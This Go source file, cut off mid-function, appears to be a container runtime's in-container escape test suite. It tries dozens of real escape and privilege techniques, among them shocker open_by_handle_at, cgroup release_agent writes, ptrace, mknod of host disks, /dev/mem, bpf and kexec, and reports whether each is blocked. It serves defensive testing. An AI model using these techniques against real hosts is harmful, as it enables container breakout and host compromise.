// Command attack is the in-container escape suite of the integration tests
// (test/integration/escape_test.go) and of SECURITY.md. Run inside a
// container, it tries known container escape and privilege techniques and
// prints one JSON line per technique:
//
//	{"id":"mount_tmpfs","blocked":true,"detail":"EPERM"}
//
// Every attempt is real, and "blocked":false is only ever reported on
// evidence that it worked (bytes read, a value written, a mount seen, a
// namespace joined, a kernel parser reached past its permission check).
//
// Nothing here may harm the host if a wall is down: values are written
// back unchanged (core_pattern, release_agent, cgroup limits, the
// hostname, the timezone, ctrl-alt-del), dangerous files are only opened
// (sysrq-trigger, /dev/mem), images handed to kexec and the module loader
// are invalid, and mounts and links are made inside the container's own
// namespaces and removed again.
//
// Built with CGO_ENABLED=0: it runs in a rootfs with no libc.
package main

import (
	"bytes"
	"encoding/binary"
	"encoding/json"
	"errors"
	"flag"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"
)

// result is one output line.
type result struct {
	ID      string `json:"id"`
	Blocked bool   `json:"blocked"`
	Detail  string `json:"detail"`
	// Skipped: the technique could not be attempted meaningfully here
	// (nothing to attack was passed in); it counts as blocked.
	Skipped bool `json:"skipped,omitempty"`
}

var (
	secretPath  = flag.String("secret", "", "path of a host 0600 root file bind-mounted in")
	suidPath    = flag.String("suid", "", "path of a setuid-root copy of this program")
	marker      = flag.String("marker", "", "argv[0] of a host marker process")
	markerPid   = flag.Int("marker-pid", 0, "host pid of the marker process")
	abstract    = flag.String("abstract", "", "name of a host abstract unix socket (without @)")
	hostNS      = flag.String("hostns", "", "host namespace inodes: net=N,uts=N,pid=N,mnt=N,cgroup=N,ipc=N")
	blockDev    = flag.String("blockdev", "8:0", "major:minor of a host block device")
	only        = flag.String("only", "", "comma-separated technique ids to run (default all)")
	childMode   = flag.String("child", "", "internal: run as a helper child")
	self        = "/proc/self/exe"
	hostNSInode = map[string]uint64{}
	// origNS: this program's namespaces at start, before any technique
	// moved a thread (a locked main thread that unshared or joined stays
	// wedged there, and /proc/self/ns shows the main thread's).
	origNS = map[string]uint64{}
)

// idleMarker is read from a sibling with process_vm_readv: the binary is
// static and not position independent, so its address is the same there.
var idleMarker = [16]byte{'t', 'i', 'r', 'i', 't', 'h', '-', 'i', 'd', 'l', 'e', '-', 'm', 'e', 'm', '!'}

// technique is one attempt.
type technique struct {
	id  string
	run func() result
}

func main() {
	flag.Parse()
	if *childMode != "" {
		os.Exit(child(*childMode))
	}
	if exe, err := os.Readlink("/proc/self/exe"); err == nil {
		self = exe
	}
	for _, kv := range strings.Split(*hostNS, ",") {
		if k, v, ok := strings.Cut(kv, "="); ok {
			n, _ := strconv.ParseUint(v, 10, 64)
			hostNSInode[k] = n
		}
	}
	for _, k := range []string{"net", "uts", "pid", "mnt", "cgroup", "ipc"} {
		origNS[k] = nsInode("/proc/thread-self/ns/" + k)
	}
	// Inherited fds are looked at before this program opens any.
	fdResult := inheritedFDs()
	want := map[string]bool{}
	for _, id := range strings.Split(*only, ",") {
		if id != "" {
			want[id] = true
		}
	}
	enc := json.NewEncoder(os.Stdout)
	for _, t := range techniques(fdResult) {
		if len(want) > 0 && !want[t.id] {
			continue
		}
		r := runOne(t)
		r.ID = t.id
		if err := enc.Encode(r); err != nil {
			os.Exit(1)
		}
	}
}

// runOne runs a technique with a time limit: a hang is reported, never
// counted as success.
func runOne(t technique) (r result) {
	done := make(chan result, 1)
	go func() {
		defer func() {
			if p := recover(); p != nil {
				done <- result{Blocked: true, Detail: fmt.Sprintf("panic: %v", p)}
			}
		}()
		done <- t.run()
	}()
	select {
	case r = <-done:
	case <-time.After(8 * time.Second):
		r = result{Blocked: true, Detail: "timed out (no evidence of success)"}
	}
	return r
}

func blocked(format string, a ...any) result {
	return result{Blocked: true, Detail: fmt.Sprintf(format, a...)}
}

func escaped(format string, a ...any) result {
	return result{Blocked: false, Detail: fmt.Sprintf(format, a...)}
}

// absent: the kernel lacks the interface, so there is nothing to attack.
func absent(format string, a ...any) result {
	return result{Blocked: true, Skipped: true, Detail: "absent from this kernel: " + fmt.Sprintf(format, a...)}
}

func skipped(format string, a ...any) result {
	return result{Blocked: true, Skipped: true, Detail: "skipped: " + fmt.Sprintf(format, a...)}
}

// errName gives an errno's symbolic name (EPERM), or the error's text.
func errName(err error) string {
	var en syscall.Errno
	if errors.As(err, &en) {
		if n := unix.ErrnoName(en); n != "" {
			return n
		}
		return fmt.Sprintf("errno %d", int(en))
	}
	if err == nil {
		return "ok"
	}
	return err.Error()
}

func isErrno(err error, es ...syscall.Errno) bool {
	for _, e := range es {
		if errors.Is(err, e) {
			return true
		}
	}
	return false
}

// reached classifies a call made with deliberately invalid arguments: a
// permission error (EPERM/EACCES) means a wall refused it; ENOSYS means
// the kernel lacks the feature (nothing to attack); anything else means
// the kernel got past its permission checks to the argument parser.
func reached(err error, what string) result {
	switch {
	case err == nil:
		return escaped("%s: succeeded", what)
	case isErrno(err, unix.EPERM, unix.EACCES):
		return blocked("%s", errName(err))
	case isErrno(err, unix.ENOSYS):
		return absent("%s: ENOSYS", what)
	default:
		return escaped("not blocked (reached kernel): %s returned %s after its permission check", what, errName(err))
	}
}

func nsInode(path string) uint64 {
	var st unix.Stat_t
	if err := unix.Stat(path, &st); err != nil {
		return 0
	}
	return st.Ino
}

func rootID() (uint64, uint64) {
	var st unix.Stat_t
	_ = unix.Stat("/", &st)
	return st.Dev, st.Ino
}

func statfsType(path string) int64 {
	var st unix.Statfs_t
	if err := unix.Statfs(path, &st); err != nil {
		return -1
	}
	return int64(st.Type)
}

// hostPid returns the marker's pid if this process can see it with its
// cmdline (that is, shares the host's pid namespace), else 0.
func hostPid() int {
	if *markerPid == 0 || *marker == "" {
		return 0
	}
	if argv0(*markerPid) == *marker {
		return *markerPid
	}
	return 0
}

// argv0 is a process's argv[0] ("" if unreadable). The marker is matched
// on argv[0] only: this program's own arguments contain its name.
func argv0(pid int) string {
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/cmdline", pid))
	if err != nil {
		return ""
	}
	a, _, _ := bytes.Cut(b, []byte{0})
	return string(a)
}

// scratchDir returns a fresh empty directory on a writable scratch mount.
func scratchDir(name string) (string, error) {
	for _, base := range []string{"/tmp", "/run", "/dev/shm", "/dev"} {
		d := filepath.Join(base, ".attack-"+name)
		if err := os.Mkdir(d, 0o700); err == nil || os.IsExist(err) {
			return d, nil
		}
	}
	return "", errors.New("no writable scratch directory")
}

func techniques(fds result) []technique {
	return []technique{
		{"inherited_fd_outside_rootfs", func() result { return fds }},
		{"cwd_outside_rootfs", cwdOutside},
		{"shocker_open_by_handle_at", shocker},
		{"mount_tmpfs", func() result { return mountFS("tmpfs", "tmpfs", unix.TMPFS_MAGIC) }},
		{"mount_proc", func() result { return mountFS("proc", "proc", unix.PROC_SUPER_MAGIC) }},
		{"mount_sysfs", func() result { return mountFS("sysfs", "sysfs", unix.SYSFS_MAGIC) }},
		{"remount_root_rw", remountRootRW},
		{"rootfs_write", rootfsWrite},
		{"remount_proc_sys_rw", remountProcSys},
		{"umount_masked_path", umountMasked},
		{"cgroup_v1_release_agent", releaseAgent},
		{"cgroupfs_write_limits", cgroupLimits},
		{"core_pattern_write", func() result { return sysctlSame("/proc/sys/kernel/core_pattern") }},
		{"sysrq_trigger_open", func() result { return openWrite("/proc/sysrq-trigger") }},
		{"uevent_helper_open", func() result { return openWrite("/sys/kernel/uevent_helper") }},
		{"sysfs_write_open", func() result { return openWrite("/sys/kernel/mm/transparent_hugepage/enabled") }},
		{"proc_kcore_read", kcoreRead},
		{"proc_keys_read", keysRead},
		{"proc_kallsyms_addresses", kallsyms},
		{"proc_timer_list_read", timerList},
		{"sys_firmware_read", firmware},
		{"dmesg_syslog_read", dmesg},
		{"mknod_block_device", mknodBlock},
		{"dev_mem_open", devMem},
		{"ptrace_attach_sibling", ptraceSibling},
		{"ptrace_attach_host_process", ptraceHost},
		{"process_vm_readv_sibling", vmReadv},
		{"keyctl_add_key", keyctlAdd},
		{"bpf_prog_load", bpfLoad},
		{"perf_event_open", perfOpen},
		{"userfaultfd", uffd},
		{"io_uring_setup", ioUring},
		{"kexec_load", kexecLoad},
		{"init_module", initModule},
		{"finit_module", finitModule},
		{"unshare_user_then_mount", usernsMount},
		{"unshare_mount_ns", unshareMnt},
		{"proc_pid1_root_escape", procRoot},
		{"raw_socket_packet", func() result { return rawSocket(unix.AF_PACKET, unix.SOCK_RAW, int(htons(unix.ETH_P_ALL))) }},
		{"raw_socket_inet_icmp", func() result { return rawSocket(unix.AF_INET, unix.SOCK_RAW, unix.IPPROTO_ICMP) }},
		{"proc_self_exe_write", func() result { return openWrite("/proc/self/exe") }},
		{"proc_pid1_exe_write", func() result { return openWrite("/proc/1/exe") }},
		{"exec_dropped_binary", execDropped},
		{"setuid_root_escalation", setuidEscalation},
		{"host_secret_read", hostSecret},
		{"host_process_visible", hostProcVisible},
		{"kill_host_process", killHost},
		{"host_abstract_unix_socket", abstractSocket},
		{"sethostname_host", sethostname},
		{"chroot_escape", chrootEscape},
		{"netlink_link_add", netlinkLinkAdd},
		{"clock_settime", clockSettime},
		{"settimeofday_tz", settimeofday},
		{"reboot_cad", rebootCAD},
		{"swapon", func() result { return reached(swapon(), "swapon(/nonexistent)") }},
		{"acct", func() result { return reached(unix.Acct("/.attack-nonexistent/acct"), "acct(/nonexistent)") }},
		{"quotactl_quotaon", quotactl},
		{"ioperm", ioperm},
		{"iopl", iopl},
		{"personality_read_implies_exec", personality},
		{"fsopen_new_mount_api", fsopen},
		{"open_tree_clone", openTree},
		{"pivot_root", func() result {
			return reached(unix.PivotRoot("/.attack-nonexistent-new", "/.attack-nonexistent-old"), "pivot_root(nonexistent)")
		}},
		{"rlimit_raise_hard", rlimitRaise},
		// Last: these move a thread into another namespace for good.
		{"unshare_net_ns", unshareNet},
		{"setns_net_pid1_or_host", func() result { return setnsJoin("net", unix.CLONE_NEWNET) }},
		{"setns_uts_pid1_or_host", func() result { return setnsJoin("uts", unix.CLONE_NEWUTS) }},
		{"setns_cgroup_pid1_or_host", func() result { return setnsJoin("cgroup", unix.CLONE_NEWCGROUP) }},
	}
}

// ---- fds and cwd (CVE-2024-21626 and friends) ----

// inheritedFDs scans /proc/self/fd for fds above stdio that point outside
// the rootfs: a directory whose ".." chain does not end at our root, or a
// path that does not resolve to the same file inside.
func inheritedFDs() result {
	dfd, err := unix.Open("/proc/self/fd", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return blocked("cannot list fds: %s", errName(err))
	}
	d := os.NewFile(uintptr(dfd), "/proc/self/fd")
	names, _ := d.Readdirnames(-1)
	d.Close()
	var bad, seen []string
	for _, n := range names {
		fd, err := strconv.Atoi(n)
		if err != nil || fd <= 2 || fd == dfd {
			continue
		}
		target, _ := os.Readlink("/proc/self/fd/" + n)
		seen = append(seen, fmt.Sprintf("%d->%s", fd, target))
		var st unix.Stat_t
		if unix.Fstat(fd, &st) != nil {
			continue
		}
		if st.Mode&unix.S_IFMT == unix.S_IFDIR {
			if top, ok := climb(fd); !ok {
				bad = append(bad, fmt.Sprintf("fd %d (%s): directory whose .. chain ends at %s, not our root", fd, target, top))
			}
			continue
		}
		if !strings.HasPrefix(target, "/") {
			continue // pipe:, socket:, anon_inode:
		}
		var in unix.Stat_t
		if unix.Stat(target, &in) != nil || in.Dev != st.Dev || in.Ino != st.Ino {
			bad = append(bad, fmt.Sprintf("fd %d -> %s: a file outside the rootfs", fd, target))
		}
	}
	if len(bad) > 0 {
		return escaped("%s", strings.Join(bad, "; "))
	}
	return blocked("no fd above stdio points outside (fds: %v)", seen)
}

// climb follows ".." from a directory fd until it stops moving, and says
// whether it stopped at our root.
func climb(fd int) (string, bool) {
	rdev, rino := rootID()
	cur, err := unix.Openat(fd, ".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return errName(err), true
	}
	defer func() { unix.Close(cur) }()
	for i := 0; i < 256; i++ {
		var st unix.Stat_t
		if unix.Fstat(cur, &st) != nil {
			return "?", true
		}
		if st.Dev == rdev && st.Ino == rino {
			return "/", true
		}
		up, err := unix.Openat(cur, "..", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
		if err != nil {
			return errName(err), true
		}
		var ust unix.Stat_t
		_ = unix.Fstat(up, &ust)
		unix.Close(cur)
		cur = up
		if ust.Dev == st.Dev && ust.Ino == st.Ino {
			return fmt.Sprintf("dev %d ino %d", st.Dev, st.Ino), false
		}
	}
	return "too deep", false
}

func cwdOutside() result {
	link, _ := os.Readlink("/proc/self/cwd")
	wd, err := unix.Getwd()
	if err != nil {
		return escaped("getcwd: %s (cwd unreachable from our root; /proc/self/cwd=%q)", errName(err), link)
	}
	if strings.HasPrefix(wd, "(unreachable)") {
		return escaped("cwd %q is outside the root", wd)
	}
	fd, err := unix.Open(".", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return blocked("cwd %q, not openable: %s", wd, errName(err))
	}
	defer unix.Close(fd)
	if top, ok := climb(fd); !ok {
		return escaped("cwd %q: .. chain ends at %s, outside our root", wd, top)
	}
	return blocked("cwd %q is inside the root", wd)
}

// ---- shocker ----

// shocker: name_to_handle_at on / gives the handle type of the root
// filesystem; a guessed handle for inode 2 generation 0 (the root of an
// ext2/3/4 filesystem: the host's, when the rootfs is a directory on it)
// is then opened with open_by_handle_at.
func shocker() result {
	rootFd, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return blocked("open /: %s", errName(err))
	}
	defer unix.Close(rootFd)
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/", 0)
	if err != nil && !isErrno(err, unix.EOPNOTSUPP) {
		return blocked("name_to_handle_at: %s", errName(err))
	}
	rdev, rino := rootID()
	guesses := []unix.FileHandle{}
	// FILEID_INO32_GEN (1): u32 inode, u32 generation.
	g := make([]byte, 8)
	binary.LittleEndian.PutUint32(g, 2)
	guesses = append(guesses, unix.NewFileHandle(1, g))
	if err == nil {
		guesses = append(guesses, h) // our own root: shows the call itself works
	}
	var last error
	for i, gh := range guesses {
		fd, err := unix.OpenByHandleAt(rootFd, gh, unix.O_RDONLY|unix.O_DIRECTORY|unix.O_CLOEXEC)
		if err != nil {
			last = err
			if isErrno(err, unix.EPERM, unix.EACCES) {
				return blocked("open_by_handle_at: %s", errName(err))
			}
			continue
		}
		var st unix.Stat_t
		_ = unix.Fstat(fd, &st)
		f := os.NewFile(uintptr(fd), "handle")
		names, _ := f.Readdirnames(8)
		f.Close()
		if i == 0 && (st.Dev != rdev || st.Ino != rino) {
			return escaped("opened the filesystem's root by a guessed handle (ino %d, not our root ino %d): %v", st.Ino, rino, names)
		}
		return escaped("open_by_handle_at works (opened ino %d by handle; with the right handle any file of the filesystem opens)", st.Ino)
	}
	return blocked("open_by_handle_at: %s", errName(last))
}

// ---- mounts ----

func mountFS(fstype, source string, magic int64) result {
	dir, err := scratchDir("mnt-" + fstype)
	if err != nil {
		return blocked("%v", err)
	}
	defer os.Remove(dir)
	if err := unix.Mount(source, dir, fstype, unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ""); err != nil {
		return blocked("mount %s: %s", fstype, errName(err))
	}
	defer unix.Unmount(dir, unix.MNT_DETACH)
	if got := statfsType(dir); got != magic {
		return blocked("mount %s returned 0 but %s has fs magic %#x", fstype, dir, got)
	}
	extra := ""
	if fstype == "proc" {
		if b, err := os.ReadFile(dir + "/timer_list"); err == nil && len(b) > 0 {
			extra = fmt.Sprintf("; fresh proc shows unmasked timer_list (%d bytes)", len(b))
		}
	}
	return escaped("mounted a new %s at %s (statfs magic matches)%s", fstype, dir, extra)
}

func remountRootRW() result {
	if err := unix.Mount("", "/", "", unix.MS_REMOUNT|unix.MS_BIND, ""); err != nil {
		return blocked("remount / rw: %s", errName(err))
	}
	var st unix.Statfs_t
	_ = unix.Statfs("/", &st)
	f := "/.attack-remount-probe"
	if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
		return blocked("remount returned 0, but writing / still fails: %v", err)
	}
	os.Remove(f)
	return escaped("remounted / read-write and created %s", f)
}

func rootfsWrite() result {
	f := "/.attack-write-probe"
	if err := os.WriteFile(f, []byte("x"), 0o600); err != nil {
		return blocked("create %s: %s", f, errName(err))
	}
	os.Remove(f)
	return escaped("created %s in the root filesystem", f)
}

func remountProcSys() result {
	// The goal is a writable /proc/sys; the probe is the (namespaced)
	// hostname, written back unchanged.
	err := unix.Mount("", "/proc/sys", "", unix.MS_REMOUNT|unix.MS_BIND|unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, "")
	r := sysctlSame("/proc/sys/kernel/hostname")
	if r.Blocked {
		return blocked("remount /proc/sys rw: %s; %s", errName(err), r.Detail)
	}
	if err != nil {
		return escaped("/proc/sys is writable without a remount (%s): %s", errName(err), r.Detail)
	}
	return escaped("remounted /proc/sys read-write: %s", r.Detail)
}

// umountMasked removes the mask over /proc/timer_list (or /proc/kcore)
// and checks the real file shows.
func umountMasked() result {
	var errs []string
	for _, m := range []struct {
		path  string
		check func() result
	}{{"/proc/timer_list", timerList}, {"/proc/kcore", kcoreRead}} {
		if r := m.check(); !r.Blocked || r.Skipped {
			errs = append(errs, m.path+": not masked")
			continue
		}
		if err := unix.Unmount(m.path, unix.MNT_DETACH); err != nil {
			errs = append(errs, "umount "+m.path+": "+errName(err))
			continue
		}
		if r := m.check(); !r.Blocked {
			return escaped("unmounted the mask on %s: %s", m.path, r.Detail)
		}
		errs = append(errs, "umount "+m.path+" worked, still unreadable")
	}
	return blocked("%s", strings.Join(errs, "; "))
}

// releaseAgent is CVE-2022-0492: mount a cgroup v1 hierarchy and write
// its release_agent (the current value, written back unchanged).
func releaseAgent() result {
	dir, err := scratchDir("cgroup")
	if err != nil {
		return blocked("%v", err)
	}
	defer os.Remove(dir)
	var errs []string
	for _, ctrl := range []string{"rdma", "memory", "pids", "freezer"} {
		if err := unix.Mount("cgroup", dir, "cgroup", unix.MS_NOSUID|unix.MS_NODEV|unix.MS_NOEXEC, ctrl); err != nil {
			errs = append(errs, ctrl+": "+errName(err))
			continue
		}
		defer unix.Unmount(dir, unix.MNT_DETACH)
		p := dir + "/release_agent"
		cur, err := os.ReadFile(p)
		if err != nil {
			return blocked("mounted cgroup v1 %s, but %s: %s (the cgroup namespace hides the hierarchy's root)", ctrl, p, errName(err))
		}
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err != nil {
			return blocked("mounted cgroup v1 %s; open release_agent for write: %s", ctrl, errName(err))
		}
		val := cur
		if len(val) == 0 {
			val = []byte("\n")
		}
		_, err = f.Write(val)
		f.Close()
		if err != nil {
			return blocked("mounted cgroup v1 %s; write release_agent: %s", ctrl, errName(err))
		}
		return escaped("mounted cgroup v1 %s and wrote its release_agent (value %q kept)", ctrl, strings.TrimSpace(string(cur)))
	}
	return blocked("mount cgroup v1: %s", strings.Join(errs, ", "))
}

func cgroupLimits() result {
	var errs []string
	for _, p := range []string{"/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/pids.max", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/memory.max"} {
		cur, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		f, err := os.OpenFile(p, os.O_WRONLY, 0)
		if err == nil {
			_, err = f.Write(cur)
			f.Close()
		}
		if err == nil {
			return escaped("wrote %s (value %q kept)", p, strings.TrimSpace(string(cur)))
		}
		errs = append(errs, p+": "+errName(err))
	}
	if len(errs) == 0 {
		return blocked("no cgroup limit file visible")
	}
	return blocked("%s", strings.Join(errs, "; "))
}

// sysctlSame writes a /proc/sys value back unchanged.
func sysctlSame(p string) result {
	cur, err := os.ReadFile(p)
	if err != nil {
		return blocked("read %s: %s", p, errName(err))
	}
	f, err := os.OpenFile(p, os.O_WRONLY, 0)
	if err != nil {
		return blocked("open %s for write: %s", p, errName(err))
	}
	defer f.Close()
	if _, err := f.Write(cur); err != nil {
		return blocked("write %s: %s", p, errName(err))
	}
	return escaped("wrote %s (value %q kept)", p, strings.TrimSpace(string(cur)))
}

// openWrite opens a file for writing and writes nothing.
func openWrite(p string) result {
	fd, err := unix.Open(p, unix.O_WRONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		if isErrno(err, unix.ENOENT) && (strings.HasPrefix(p, "/proc/sys") || strings.HasPrefix(p, "/sys/")) || p == "/proc/sysrq-trigger" {
			return absent("%s: ENOENT", p)
		}
		return blocked("open %s O_WRONLY: %s", p, errName(err))
	}
	unix.Close(fd)
	return escaped("opened %s for writing (nothing written)", p)
}

// ---- kernel information ----

func kcoreRead() result {
	f, err := os.Open("/proc/kcore")
	if err != nil {
		if isErrno(err, unix.ENOENT) {
			return absent("/proc/kcore: ENOENT")
		}
		return blocked("open /proc/kcore: %s", errName(err))
	}
	defer f.Close()
	b := make([]byte, 4)
	n, err := io.ReadFull(f, b)
	if err != nil || !bytes.Equal(b, []byte("\x7fELF")) {
		return blocked("read /proc/kcore: %d bytes (%s), no ELF header", n, errName(err))
	}
	return escaped("read the ELF header of /proc/kcore (kernel memory)")
}

func keysRead() result {
	b, err := os.ReadFile("/proc/keys")
	if err != nil {
		return blocked("read /proc/keys: %s", errName(err))
	}
	if len(bytes.TrimSpace(b)) == 0 {
		return blocked("/proc/keys reads empty")
	}
	return escaped("/proc/keys: %d lines", bytes.Count(b, []byte("\n")))
}

func kallsyms() result {
	f, err := os.Open("/proc/kallsyms")
	if err != nil {
		return blocked("open /proc/kallsyms: %s", errName(err))
	}
	defer f.Close()
	b := make([]byte, 64<<10)
	n, _ := io.ReadFull(f, b)
	lines := strings.Split(string(b[:n]), "\n")
	if n == 0 {
		return blocked("/proc/kallsyms reads empty")
	}
	for _, l := range lines {
		fields := strings.Fields(l)
		if len(fields) >= 3 {
			if v, err := strconv.ParseUint(fields[0], 16, 64); err == nil && v != 0 {
				return escaped("kernel address leaked: %s", l)
			}
		}
	}
	return blocked("/proc/kallsyms: %d bytes, all addresses zero", n)
}

func timerList() result {
	b, err := os.ReadFile("/proc/timer_list")
	if err != nil {
		return blocked("read /proc/timer_list: %s", errName(err))
	}
	if !bytes.Contains(b, []byte("Timer List")) {
		return blocked("/proc/timer_list: %d bytes, no timer list", len(b))
	}
	return escaped("/proc/timer_list readable (%d bytes of host timers)", len(b))
}

func firmware() result {
	ents, err := os.ReadDir("/sys/firmware")
	if err != nil {
		return blocked("read /sys/firmware: %s", errName(err))
	}
	if len(ents) == 0 {
		return blocked("/sys/firmware is empty")
	}
	var names []string
	for _, e := range ents {
		names = append(names, e.Name())
	}
	return escaped("/sys/firmware lists %v", names)
}

func dmesg() result {
	buf := make([]byte, 1<<16)
	n, err := unix.Klogctl(unix.SYSLOG_ACTION_READ_ALL, buf)
	if err != nil {
		return blocked("syslog(READ_ALL): %s", errName(err))
	}
	if n <= 0 {
		return blocked("syslog(READ_ALL) returned nothing")
	}
	return escaped("read %d bytes of the kernel log", n)
}

// ---- devices ----

func mknodBlock() result {
	var maj, min uint32
	if _, err := fmt.Sscanf(*blockDev, "%d:%d", &maj, &min); err != nil {
		maj, min = 8, 0
	}
	p := "/dev/.attack-blk"
	os.Remove(p)
	if err := unix.Mknod(p, unix.S_IFBLK|0o600, int(unix.Mkdev(maj, min))); err != nil {
		return blocked("mknod b %d:%d: %s", maj, min, errName(err))
	}
	defer os.Remove(p)
	f, err := os.Open(p)
	if err != nil {
		return blocked("mknod b %d:%d worked; open: %s", maj, min, errName(err))
	}
	defer f.Close()
	b := make([]byte, 512)
	n, err := f.Read(b)
	if err != nil {
		return escaped("mknod b %d:%d and opened it (read: %s)", maj, min, errName(err))
	}
	return escaped("mknod b %d:%d, opened it and read %d bytes of the host disk", maj, min, n)
}

func devMem() result {
	p := "/dev/mem"
	if _, err := os.Stat(p); err != nil {
		p = "/dev/.attack-mem"
		os.Remove(p)
		if err := unix.Mknod(p, unix.S_IFCHR|0o600, int(unix.Mkdev(1, 1))); err != nil {
			return blocked("no /dev/mem; mknod c 1:1: %s", errName(err))
		}
		defer os.Remove(p)
	}
	fd, err := unix.Open(p, unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if isErrno(err, unix.ENXIO, unix.ENODEV) {
		return escaped("not blocked (reached kernel): open %s passed the device cgroup and capability checks; %s: this kernel has no /dev/mem driver", p, errName(err))
	}
	if err != nil {
		return blocked("open %s: %s", p, errName(err))
	}
	unix.Close(fd)
	return escaped("opened %s (physical memory; nothing read)", p)
}

// ---- other processes ----

// sibling starts an idle copy of this program and returns it.
func sibling() (*exec.Cmd, error) {
	cmd := exec.Command(self, "-child", "idle")
	out, err := cmd.StdoutPipe()
	if err != nil {
		return nil, err
	}
	if err := cmd.Start(); err != nil {
		return nil, err
	}
	b := make([]byte, 6)
	if _, err := io.ReadFull(out, b); err != nil {
		_ = cmd.Process.Kill()
		_ = cmd.Wait()
		return nil, fmt.Errorf("sibling did not start: %v", err)
	}
	return cmd, nil
}

func reap(cmd *exec.Cmd) {
	_ = cmd.Process.Kill()
	_ = cmd.Wait()
}

func ptraceAttach(pid int) result {
	runtime.LockOSThread()
	defer runtime.UnlockOSThread()
	if err := unix.PtraceAttach(pid); err != nil {
		return blocked("ptrace(PTRACE_ATTACH, %d): %s", pid, errName(err))
	}
	var ws unix.WaitStatus
	_, _ = unix.Wait4(pid, &ws, unix.WALL, nil)
	_ = unix.PtraceDetach(pid)
	return escaped("attached to pid %d with ptrace (stopped: %v), detached", pid, ws.Stopped())
}

func ptraceSibling() result {
	cmd, err := sibling()
	if err != nil {
		return blocked("%v", err)
	}
	defer reap(cmd)
	return ptraceAttach(cmd.Process.Pid)
}

func ptraceHost() result {
	pid := hostPid()
	if pid == 0 {
		if os.Getpid() != 1 {
			return ptraceAttach(1)
		}
		return blocked("no host process visible (pid 1 is this program)")
	}
	return ptraceAttach(pid)
}

func vmReadv() result {
	cmd, err := sibling()
	if err != nil {
		return blocked("%v", err)
	}
	defer reap(cmd)
	buf := make([]byte, len(idleMarker))
	local := []unix.Iovec{{Base: &buf[0], Len: uint64(len(buf))}}
	remote := []unix.RemoteIovec{{Base: uintptr(unsafe.Pointer(&idleMarker[0])), Len: len(idleMarker)}}
	n, err := unix.ProcessVMReadv(cmd.Process.Pid, local, remote, 0)
	if err != nil {
		return blocked("process_vm_readv(%d): %s", cmd.Process.Pid, errName(err))
	}
	if !bytes.Equal(buf[:n], idleMarker[:]) {
		return blocked("process_vm_readv read %d bytes, not the sibling's marker", n)
	}
	return escaped("read %q from another process's memory", buf[:n])
}

// ---- kernel attack surface ----

func keyctlAdd() result {
	id, err := unix.AddKey("user", "tirith-attack", []byte("x"), unix.KEY_SPEC_PROCESS_KEYRING)
	if err != nil {
		return blocked("add_key: %s", errName(err))
	}
	return escaped("add_key created key %d in the (non-namespaced) keyring", id)
}

func bpfLoad() result {
	// r0 = 0; exit
	insns := []uint64{0x00000000000000b7, 0x0000000000000095}
	license := []byte("GPL\x00")
	type attr struct {
		progType, insnCnt uint32
		insns, license    uint64
		logLevel, logSize uint32
		logBuf            uint64
		kernVersion       uint32
		progFlags         uint32
		pad               [64]byte
	}
	a := attr{progType: unix.BPF_PROG_TYPE_SOCKET_FILTER, insnCnt: 2,
		insns: uint64(uintptr(unsafe.Pointer(&insns[0]))), license: uint64(uintptr(unsafe.Pointer(&license[0])))}
	fd, _, e := unix.Syscall(unix.SYS_BPF, unix.BPF_PROG_LOAD, uintptr(unsafe.Pointer(&a)), unsafe.Sizeof(a))
	runtime.KeepAlive(insns)
	runtime.KeepAlive(license)
	if e != 0 {
		return blocked("bpf(BPF_PROG_LOAD): %s", errName(e))
	}
	unix.Close(int(fd))
	return escaped("loaded a BPF socket filter (fd %d)", fd)
}

func perfOpen() result {
	attr := unix.PerfEventAttr{Type: unix.PERF_TYPE_SOFTWARE, Config: unix.PERF_COUNT_SW_CPU_CLOCK,
		Size: uint32(unsafe.Sizeof(unix.PerfEventAttr{})), Bits: unix.PerfBitDisabled | unix.PerfBitExcludeKernel | unix.PerfBitExcludeHv}
	fd, err := unix.PerfEventOpen(&attr, 0, -1, -1, unix.PERF_FLAG_FD_CLOEXEC)
	if err != nil {
		return blocked("perf_event_open: %s", errName(err))
	}
	unix.Close(fd)
	return escaped("perf_event_open gave fd %d", fd)
}

func uffd() result {
	const userModeOnly = 1
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|userModeOnly, 0, 0)
	if e != 0 {
		return blocked("userfaultfd: %s", errName(e))
	}
	unix.Close(int(fd))
	return escaped("userfaultfd gave fd %d", fd)
}

func ioUring() result {
	var params [120]byte
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 1, uintptr(unsafe.Pointer(&params[0])), 0)
	if e != 0 {
		return blocked("io_uring_setup: %s", errName(e))
	}
	unix.Close(int(fd))
	return escaped("io_uring_setup gave fd %d", fd)
}

func kexecLoad() result {
	// Zero segments and a foreign architecture (ARM, 40<<16): the kernel
	// checks CAP_SYS_BOOT, then refuses the architecture with EINVAL.
	// Nothing is loaded or unloaded.
	const archARM = 40 << 16
	_, _, e := unix.Syscall6(unix.SYS_KEXEC_LOAD, 0, 0, 0, archARM, 0, 0)
	return reached(errOrNil(e), "kexec_load(foreign arch)")
}

func errOrNil(e syscall.Errno) error {
	if e == 0 {
		return nil
	}
	return e
}

func initModule() result {
	img := []byte("not an ELF module")
	return reached(unix.InitModule(img, ""), "init_module(garbage)")
}

func finitModule() result {
	f, err := os.Open("/etc/passwd")
